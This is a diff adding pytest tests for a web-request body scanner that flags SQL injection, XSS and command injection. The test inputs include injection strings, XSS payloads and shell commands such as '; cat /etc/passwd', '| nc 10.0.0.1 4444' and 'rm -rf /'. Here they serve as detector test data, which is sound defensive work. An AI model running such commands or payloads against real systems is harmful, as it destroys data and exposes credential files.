@@ -0,0 +1,90 @@
+import asyncio
+
+import pytest
+
+from src.schemas.security import SecurityCheckRequest
+from src.services.body_scanner import BodyScanner
+from src.services.security import SecurityService
+
+
+def test_findings_name_the_category_and_path():
+    scanner = BodyScanner()
+    result = scanner.scan({
+        "rows": [{"q": "fine"}, {"q": "1' UNION SELECT password FROM users--"}],
+        "<script>alert(1)</script>": "key",
+        "note": "ship it; rm -rf /var/www",
+    })
+    assert set(result.findings) == {"sql_injection", "xss", "command_injection"}
+    assert "body.rows[1].q" in result.findings["sql_injection"]
+    assert "(key)" in result.findings["xss"]
+    assert "body.note" in result.findings["command_injection"]
+    assert result.incomplete is None
+
+
+def test_benign_text_is_clean():
+    scanner = BodyScanner()
+    body = {"note": "Select a delivery slot; we'll drop it at the union office", "tags": ["and", "or", "<b>"]}
+    assert scanner.scan(body).clean
+
+
+@pytest.mark.parametrize("text", [
+    "price < 10 and only = true",
+    "if x < 5 then one = 2",
+    "x < object count",
+    "<b>bold</b> and <i>italic</i>",
+    "Learning javascript: the good parts",
+    '"hello" or "bye" = same',
+    "choose 1 or 2 = 3",
+    "it's 5 o'clock, or so",
+    "Done; update the docs",
+    "Meeting; exec summary",
+    "Reboot; shutdown later",
+    "sleep (8 hours)",
+    "use a | cat to pipe",
+    "Tom & Jerry; id card",
+    "Rock & roll; ls of songs",
+])
+def test_prose_does_not_match_signatures(text):
+    assert BodyScanner().scan({"note": text}).clean
+
+
+@pytest.mark.parametrize("text, category", [
+    ("' OR '1'='1", "sql_injection"),
+    ("admin'--", "sql_injection"),
+    ("1; DROP TABLE users", "sql_injection"),
+    ("1 and sleep(5)", "sql_injection"),
+    ("<img src=x onerror=alert(1)>", "xss"),
+    ("<svg/onload=alert(1)>", "xss"),
+    ("javascript:alert(1)", "xss"),
+    ("; cat /etc/passwd", "command_injection"),
+    ("| nc 10.0.0.1 4444", "command_injection"),
+    ("x && whoami", "command_injection"),
+])
+def test_payloads_match_signatures(text, category):
+    assert category in BodyScanner().scan({"note": text}).findings
+
+
+def test_budgets_stop_the_walk_without_recursion():
+    deep = "x"
+    for _ in range(100_000):
+        deep = [deep]
+    result = BodyScanner(max_depth=64).scan(deep)
+    assert "deeper than 64" in result.incomplete
+
+    assert "more than 10 values" in BodyScanner(max_nodes=10).scan(list(range(100))).incomplete
+
+    result = BodyScanner(max_chars=100).scan(["a" * 80, "b" * 80, "; rm -rf /"])
+    assert "string characters" in result.incomplete
+    assert result.scanned_chars == 100
+    assert not result.findings
+
+
+def test_body_findings_raise_the_verdict(monkeypatch):
+    monkeypatch.setenv("EXPRESS_API_KEY", "test")
+    service = SecurityService(body_scanner=BodyScanner())
+    check_request = SecurityCheckRequest(
+        headers={}, path="/api/orders", method="POST", body={"name": "x' OR 1=1 --"}
+    )
+    verdict = asyncio.run(service.analyze_request(None, check_request))
+    assert verdict["threat_level"] == "High"
+    assert "sql_injection" in verdict["details"]["body_signatures"]